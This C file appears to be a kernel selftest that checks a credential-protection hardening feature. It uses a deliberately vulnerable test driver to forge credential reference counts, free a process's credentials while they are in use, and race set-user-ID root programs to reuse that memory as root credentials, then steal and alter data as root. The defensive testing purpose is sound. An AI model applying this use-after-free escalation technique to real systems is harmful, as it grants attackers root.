// SPDX-License-Identifier: GPL-2.0-only
/*
 * Forge the count of references to credentials, so that they are freed while a
 * process has them, and have the kernel take the memory for those of root: a
 * program that is set-user-ID root runs many times. Several processes try.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "common.h"

#define CANDIDATES	16
#define PROGRAMS	16
#define PROGRAM_S	60
#define ROUNDS		12
#define TRIES		4

/* Shared by all candidates of a try. */
struct prize {
	int ready;
	bool claimed, won;
	bool over;	/* no more programs of root are run */
};

static void nap(long ms)
{
	const struct timespec pause = { .tv_nsec = ms * 1000 * 1000 };

	nanosleep(&pause, NULL);
}

static pid_t fork_or_die(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die_errno("fork");
	return pid;
}

/*
 * Have a process with other credentials close the last file that has these. A
 * pipe to tell it when would be another such file. It stops when it is done, and
 * stays: its credentials are beside those that are free now, whose memory would
 * be given back if nothing else were there.
 */
static void drop_a_reference(u64 usage, volatile struct prize *prize)
{
	int file = open("/proc/self/stat", O_RDONLY), status, received;
	sigset_t go;
	pid_t pid;

	if (file < 0)
		die_errno("opening a file");
	sigemptyset(&go);
	sigaddset(&go, SIGUSR1);
	sigprocmask(SIG_BLOCK, &go, NULL);
	pid = fork_or_die();
	if (!pid) {
		close(FD_LOOT);
		sigwait(&go, &received);
		close(file);
		for (;;)
			raise(SIGSTOP);
	}
	close(file);
	/* A process that is forked from now on could get what another frees. */
	__atomic_add_fetch(&prize->ready, 1, __ATOMIC_SEQ_CST);
	while (prize->ready < CANDIDATES)
		nap(1);
	vuln_write(usage, 1);
	if (kill(pid, SIGUSR1) || waitpid(pid, &status, WUNTRACED) != pid)
		die_errno("dropping a reference");
	if (WIFSIGNALED(status))
		exit(EXIT_OUT_OF_REACH);
}

/*
 * Is it that of a program that is set-user-ID root? The driver tells: system
 * calls follow pointers, and there may be none. While such a program calls
 * access(), as libc does when it starts, it has others, which open no file.
 */
static bool is_root(u64 uid)
{
	const u64 user = (u64)ATTACKER_UID << 32 | ATTACKER_UID;
	const u64 root = (u64)ATTACKER_UID << 32;

	return vuln_read(uid) == user && vuln_read(uid + sizeof(u64)) == root &&
	       vuln_read(uid + 2 * sizeof(u64)) == root &&
	       vuln_read(uid + 3 * sizeof(u64)) == root;
}

/* A process must not end whose credentials are free memory, or another's. */
static noreturn void stay_for_ever(void)
{
	close(FD_LOOT);
	for (;;)
		pause();
}

static noreturn void be_a_candidate(const char *path, volatile struct prize *prize)
{
	struct kpkeys_vuln_cred mine = vuln_cred();

	setsid();
	drop_a_reference(mine.usage, prize);
	for (; !prize->over; nap(20)) {
		if (!is_root(mine.uid))
			continue;
		/* The count may be elsewhere, and that program have ended. */
		mine = vuln_cred();
		if ((int64_t)vuln_read(mine.usage) <= 0)
			continue;
		vuln_write(mine.usage, vuln_read(mine.usage) + 1000);
		/* From now on they stay, but may have become others just before. */
		if (!is_root(mine.uid))
			continue;
		/* There is one secret, and a candidate that finds none would end. */
		if (__atomic_exchange_n(&prize->claimed, true, __ATOMIC_SEQ_CST))
			break;
		steal_and_alter_as_root(path);
		prize->won = true;
		break;
	}
	stay_for_ever();
}

/*
 * They need to do nothing but to have credentials, until nobody looks at those
 * any more: the kernel crashes if it frees them meanwhile. vfork() returns when
 * a program runs, however slow the machine.
 */
static void run_programs_of_root(void)
{
	pid_t pid;
	int i;

	for (i = 0; i < PROGRAMS; i++) {
		pid = vfork();
		if (pid < 0)
			die_errno("vfork");
		if (pid)
			continue;
		execl(ROOT_PROGRAM, ROOT_PROGRAM, NULL);
		_exit(1);
	}
}

/* How the first candidate ended that did, or 0. Winners do not. */
static int candidate_ended(const pid_t candidates[CANDIDATES])
{
	int status, i;
	pid_t pid;

	while ((pid = waitpid(-1, &status, WNOHANG)) > 0)
		for (i = 0; i < CANDIDATES; i++)
			if (candidates[i] == pid)
				return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
	return 0;
}

/* How the first candidate ended that did, or 0 if none did. */
static int try_candidates(const char *path, volatile struct prize *prize)
{
	pid_t candidates[CANDIDATES];
	int i, how = 0;

	for (i = 0; i < CANDIDATES; i++) {
		candidates[i] = fork_or_die();
		if (!candidates[i])
			be_a_candidate(path, prize);
	}
	for (i = 0; i < ROUNDS && !how && !prize->won; i++) {
		nap(100);
		run_programs_of_root();
		nap(200);
		how = candidate_ended(candidates);
	}
	prize->over = true;
	return how;
}

int main(int argc, char **argv)
{
	volatile struct prize *prizes;
	bool won = false;
	int i, how = 0;

	if (!geteuid()) {
		sleep(PROGRAM_S);
		return 0;
	}

	prizes = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
		      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (prizes == MAP_FAILED)
		die_errno("mapping a page");
	for (i = 0; i < TRIES && !how && !won; i++) {
		how = try_candidates(argc > 1 ? argv[1] : "", &prizes[i]);
		won = prizes[i].won;
	}
	if (how == EXIT_OUT_OF_REACH)
		out_of_reach("the credentials are in use, whatever their count says");
	if (!won)
		die("the memory did not become credentials of root");
	return 0;
}
